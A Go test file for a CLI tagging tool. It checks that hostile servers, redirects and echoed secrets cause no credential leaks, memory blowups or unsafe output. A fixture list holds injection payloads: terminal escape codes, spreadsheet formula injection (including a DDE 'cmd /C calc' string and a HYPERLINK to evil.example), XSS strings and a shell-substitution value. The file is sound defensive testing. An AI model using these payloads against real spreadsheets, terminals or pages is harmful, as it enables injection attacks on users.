package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"unicode"

	"mantatag/report/journal"
	"mantatag/worker/manta/sandbox"
)

// ran is what a run of the program came to.
type ran struct {
	code           int
	stdout, stderr string
	state          *os.ProcessState
}

// runProgram runs the program in dir with a pair and a bot of the sandbox's,
// unless env says otherwise.
func runProgram(t *testing.T, dir, api string, env []string, args ...string) ran {
	t.Helper()
	return runProgramOn(t, nil, dir, api, env, args...)
}

// runProgramOn is runProgram with something on standard input.
func runProgramOn(t *testing.T, stdin io.Reader, dir, api string, env []string, args ...string) ran {
	t.Helper()
	cmd := exec.Command(os.Args[0], args...)
	cmd.Dir, cmd.Stdin = dir, stdin
	cmd.Env = append(os.Environ(), "MANTATAG_TEST_MAIN=1", "MANTATAG_API_URL="+api, "XDG_STATE_HOME="+filepath.Join(dir, "state"),
		"MANTATAG_TOKEN="+sandbox.Token, "MANTATAG_SECRET="+sandbox.Secret, "MANTATAG_BOT_ID="+sandbox.BotID)
	cmd.Env = append(cmd.Env, env...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil && !errors.As(err, new(*exec.ExitError)) {
		t.Fatal(err)
	}
	return ran{cmd.ProcessState.ExitCode(), stdout.String(), stderr.String(), cmd.ProcessState}
}

// summary is what is looked at of summary.json.
type summary struct {
	StoppedBy string `json:"stopped_by"`
	Rows      struct{ Read, Succeeded, Failed, Retryable, Pending int }
}

func readSummary(t *testing.T, job string) (s summary) {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(job, "summary.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(text, &s); err != nil {
		t.Fatal(err)
	}
	return s
}

// TestServersThatBreakEveryRule: whatever a server does to every request, the
// program ends in bounded memory, with the right code, and marks no row; and a
// redirect takes the credentials nowhere.
func TestServersThatBreakEveryRule(t *testing.T) {
	var elsewhere atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { elsewhere.Add(1) }))
	defer other.Close()
	t.Run("each", func(t *testing.T) {
		for i, name := range sandbox.FaultNames() {
			fault := sandbox.Fault(i)
			if fault == sandbox.None || fault == sandbox.Refused {
				continue
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				server, err := sandbox.Listen("127.0.0.1:0", sandbox.New(sandbox.Options{
					Faults: map[sandbox.Fault]float64{fault: 1}, Redirect: other.URL,
				}))
				if err != nil {
					t.Fatal(err)
				}
				defer server.Close()
				dir := t.TempDir()
				var rows strings.Builder
				for n := range 50 {
					fmt.Fprintf(&rows, "t,c%d\n", n)
				}
				write(t, filepath.Join(dir, "rows.csv"), "tagId,clientId\n"+rows.String())
				// Ten requests one after the other are an outage, however slow.
				r := runProgram(t, dir, server.URL, nil, "run", "rows.csv", "--timeout", "100ms", "--outage-timeout", "300ms", "--retries", "50")
				code, by := 4, "outage"
				if fault == sandbox.Redirected {
					code, by = 2, "config"
				}
				s := readSummary(t, filepath.Join(dir, "rows.csv.mantatag"))
				if r.code != code || s.StoppedBy != by || s.Rows.Read != 50 || s.Rows.Pending != 50 {
					t.Errorf("exit %d, %+v\n%s", r.code, s, r.stderr)
				}
				if m := memory(r.state); m > 200<<20 {
					t.Errorf("it took %d MiB", m>>20)
				}
			})
		}
	})
	t.Run("certificate", func(t *testing.T) {
		server := httptest.NewTLSServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { elsewhere.Add(1) }))
		defer server.Close()
		dir := t.TempDir()
		write(t, filepath.Join(dir, "rows.csv"), "tagId,clientId\nt,c\n")
		r := runProgram(t, dir, server.URL, nil, "run", "rows.csv")
		if s := readSummary(t, filepath.Join(dir, "rows.csv.mantatag")); r.code != 2 || s.StoppedBy != "config" || s.Rows.Pending != 1 {
			t.Errorf("exit %d, %+v\n%s", r.code, s, r.stderr)
		}
	})
	if elsewhere.Load() != 0 {
		t.Error("a request went elsewhere")
	}
}

func write(t *testing.T, name, text string) {
	t.Helper()
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// harm is text that tries to be more than text.
var harm = []string{
	"\x1b[2J\x1b]0;owned\x07", "a\x1b[31mred", "bell\x07", "\u009b2J", "back\b\b\bspace", "null\x00byte",
	"line\nbreak", "carriage\rreturn", "\u202Eright to left", "\u2028line separator",
	`=HYPERLINK("http://evil.example/"&A1,"x")`, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1", `=cmd|' /C calc'!A0`,
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</title><b>", "<!--",
	`quote"quote`, `""`, `a,b;c`, `\u001b[2J`, `{"kind":"succeeded"}`, "%s%n%d", "${IFS}`id`", strings.Repeat("long", 5000),
}

// TestTextThatMeansHarm comes in ids and names, and from the server in its
// messages. The user's own comes back in the outcome files as it stands, and
// nowhere does any of it do anything.
func TestTextThatMeansHarm(t *testing.T) {
	for _, format := range []string{"csv", "ndjson"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			var mu sync.Mutex
			arrived, said := map[string]bool{}, 0
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				var body struct{ ClientID string }
				if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
					t.Error(err)
				}
				mu.Lock()
				arrived[body.ClientID] = true
				message := harm[said%len(harm)]
				said++
				mu.Unlock()
				w.WriteHeader(http.StatusNotFound)
				_ = json.NewEncoder(w).Encode(map[string]any{"success": false, "errResponse": map[string]any{"code": 37011, "message": message}})
			}))
			defer server.Close()

			dir := t.TempDir()
			input := filepath.Join(dir, "rows."+format)
			var file bytes.Buffer
			if format == "csv" {
				w := csv.NewWriter(&file)
				_ = w.Write([]string{"tagId", "clientId", "name"})
				for _, h := range harm {
					_ = w.Write([]string{"t", h, h})
				}
				w.Flush()
			} else {
				for _, h := range harm {
					_ = json.NewEncoder(&file).Encode(map[string]string{"tagId": "t", "clientId": h, "name": h})
				}
			}
			write(t, input, file.String())
			r := runProgram(t, dir, server.URL, nil, "run", input, "--log-format", "console", "--log-level", "debug", "--stop-after-failures", "3")
			r2 := runProgram(t, dir, server.URL, nil, "run", input, "--log-format", "json", "--log-level", "debug", "--stop-after-failures", "0", "--retry-failed")
			runProgram(t, dir, server.URL, nil, "run", input, "--quiet", "--stop-after-failures", "0", "--retry-failed", "--log-level", "debug")
			job := input + ".mantatag"
			if s := readSummary(t, job); r.code != 3 || r2.code != 3 || s.Rows.Failed != len(harm) {
				t.Errorf("exits %d and %d, %+v\n%s%s", r.code, r2.code, s, r.stderr, r2.stderr)
			}
			for where, text := range map[string]string{
				"stdout": r.stdout + r2.stdout, "stderr": r.stderr + r2.stderr,
				"run.log": slurp(t, job, "run.log"), "journal": slurp(t, job, "journal.ndjson"),
				"summary.json": slurp(t, job, "summary.json"), "report.html": slurp(t, job, "report.html"),
			} {
				for _, c := range text {
					if c != '\n' && c != '\t' && !unicode.IsGraphic(c) {
						t.Errorf("%s holds the character %U", where, c)
						break
					}
				}
			}
			for _, name := range []string{"run.log", "journal.ndjson"} {
				for line := range strings.Lines(slurp(t, job, name)) {
					if !json.Valid([]byte(strings.TrimSpace(line))) {
						t.Errorf("%s: %q is no JSON", name, line)
					}
				}
			}
			for _, tag := range []string{"<script>alert", "<img", "</title><b>"} {
				if strings.Contains(slurp(t, job, "report.html"), tag) {
					t.Errorf("report.html holds %s", tag)
				}
			}
			if j, err := journal.View(job); err != nil {
				t.Error(err)
			} else {
				_ = j.Close()
			}

			// An id that no system gives out is refused; the others arrive as
			// they stand, but for what does not show around them.
			for id := range arrived {
				if !slices.ContainsFunc(harm, func(h string) bool { return strings.Trim(h, " \t\u2028\u202E") == id }) {
					t.Errorf("the API was asked for %q", id)
				}
			}
			if len(arrived) < 10 {
				t.Errorf("only %d ids arrived", len(arrived))
			}
			reasons, names := outcomeTexts(t, filepath.Join(job, "failed."+format))
			if !slices.Equal(names, harm) {
				t.Errorf("the names came back as %q", names)
			}
			for _, reason := range reasons {
				if format == "csv" && reason != "" && strings.ContainsRune("=+-@\t＝", []rune(reason)[0]) {
					t.Errorf("a spreadsheet would run %q", reason)
				}
			}
		})
	}
}

func slurp(t *testing.T, dir, name string) string {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// outcomeTexts reads reasons and names from an outcome file.
func outcomeTexts(t *testing.T, name string) (reasons, names []string) {
	t.Helper()
	text := strings.TrimPrefix(slurp(t, "", name), "\uFEFF")
	if filepath.Ext(name) == ".csv" {
		records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		reason := slices.Index(records[0], "mantatag_reason")
		for _, r := range records[1:] {
			reasons, names = append(reasons, r[reason]), append(names, strings.ReplaceAll(r[2], "\r\n", "\n"))
		}
		return reasons, names
	}
	for line := range strings.Lines(text) {
		var row struct {
			Name     string
			Mantatag struct{ Reason string }
		}
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatal(err)
		}
		reasons, names = append(reasons, row.Mantatag.Reason), append(names, row.Name)
	}
	return reasons, names
}

// TestNoSecretIsTold runs every path with a token and secrets that are easy to
// find, as talkative as can be, against servers that say them back, and looks
// for them in all that comes out.
func TestNoSecretIsTold(t *testing.T) {
	const token, secret = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1bm1pc3Rha2FibGUifQ.TOKENTOKENTOKEN", "S3cretS3cretS3cret/+\"<&"
	echo := func(status int, header http.Header) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			var sent struct{ Secret string }
			_ = json.Unmarshal(body, &sent)
			for k, v := range header {
				w.Header()[k] = v
			}
			if status >= 300 && status < 400 {
				w.Header().Set("Location", "https://elsewhere.invalid/"+strings.Repeat("x", 440)+"?t="+r.Header.Get("Authorization"))
			}
			w.WriteHeader(status)
			said := fmt.Sprintf("you sent %s and %s as %s", r.Header.Get("Authorization"), sent.Secret, body)
			_ = json.NewEncoder(w).Encode(map[string]any{"success": false, "errResponse": map[string]any{"code": 40000 + status, "message": said}})
		}
	}
	page := func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		w.WriteHeader(http.StatusBadGateway)
		fmt.Fprintf(w, "%s %s", r.Header.Get("Authorization"), body)
	}
	sign := sandbox.New(sandbox.Options{Token: token, Secret: secret, BotID: "b", Faults: map[sandbox.Fault]float64{sandbox.Reset: 0.2, sandbox.ServerError: 0.2}})
	for name, handler := range map[string]http.Handler{
		"success": sign, "401": echo(401, nil), "403": echo(403, nil), "404": echo(404, nil), "307": echo(307, nil), "500": echo(500, nil),
		"429":  sandbox.New(sandbox.Options{Token: token, Secret: secret, BotID: "b", Limiter: &sandbox.TokenBucket{Rate: 20, Burst: 1}}),
		"page": http.HandlerFunc(page),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(handler)
			defer server.Close()
			dir, private := t.TempDir(), t.TempDir()
			write(t, filepath.Join(dir, "rows.csv"), "tagId,clientId\nt,c1\nt,c2\nt,c3\n")
			write(t, filepath.Join(private, "token"), token+"\n")
			write(t, filepath.Join(private, "secret"), secret+"\n")
			env := []string{"MANTATAG_TOKEN=" + token, "MANTATAG_SECRET=" + secret, "MANTATAG_BOT_ID=b"}
			files := []string{"--token-file", filepath.Join(private, "token"), "--secret-file", filepath.Join(private, "secret")}
			talk := []string{"--log-level", "debug", "--outage-timeout", "300ms", "--retries", "2"}
			var said strings.Builder
			for _, args := range [][]string{
				append([]string{"check", "rows.csv"}, files...),
				append([]string{"run", "rows.csv", "--log-format", "console", "--metrics-file", filepath.Join(dir, "metrics")}, talk...),
				append(append([]string{"run", "rows.csv", "--json", "--lang", "zh-TW", "--in-doubt", "hold"}, talk...), files...),
				append([]string{"run", "rows.csv", "--quiet", "--fresh"}, talk...),
				{"status", "rows.csv.mantatag"},
				{"report", "rows.csv.mantatag"},
				append([]string{"token", "renew"}, files...),
			} {
				r := runProgram(t, dir, server.URL, env, args...)
				if r.code == 1 {
					t.Errorf("%q ended with a fault of the program: %s", args, r.stderr)
				}
				said.WriteString(r.stdout + r.stderr)
			}
			looked := 0
			look := func(where, text string) {
				looked++
				for _, s := range []string{token, token[:40], "TOKENTOKENTOKEN", secret, "S3cretS3cret"} {
					if strings.Contains(text, s) {
						t.Errorf("%s holds %q", where, s)
					}
				}
			}
			look("the output", said.String())
			err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
				if err != nil || d.IsDir() {
					return err
				}
				text, err := os.ReadFile(path)
				look(path, string(text))
				return err
			})
			if err != nil || looked < 15 {
				t.Errorf("looked at %d texts: %v", looked, err)
			}
		})
	}
}

// TestArgumentsHoldNoSecret: no flag takes one, so that none can be in the list
// of processes.
func TestArgumentsHoldNoSecret(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "rows.csv"), "tagId,clientId\nt,c\n")
	for _, flag := range []string{"--token", "--secret", "--api-token", "--bearer"} {
		if r := runProgram(t, dir, "http://127.0.0.1:1", nil, "run", "rows.csv", flag, "x"); r.code != 2 {
			t.Errorf("%s is taken: %s", flag, strconv.Quote(r.stderr))
		}
	}
	if r := runProgram(t, dir, "http://127.0.0.1:1", nil, "run", "rows.csv", "--api-url", "https://user:S3cretS3cret@example.com"); r.code != 2 {
		t.Errorf("a password in --api-url is taken: %s", r.stderr)
	}
}
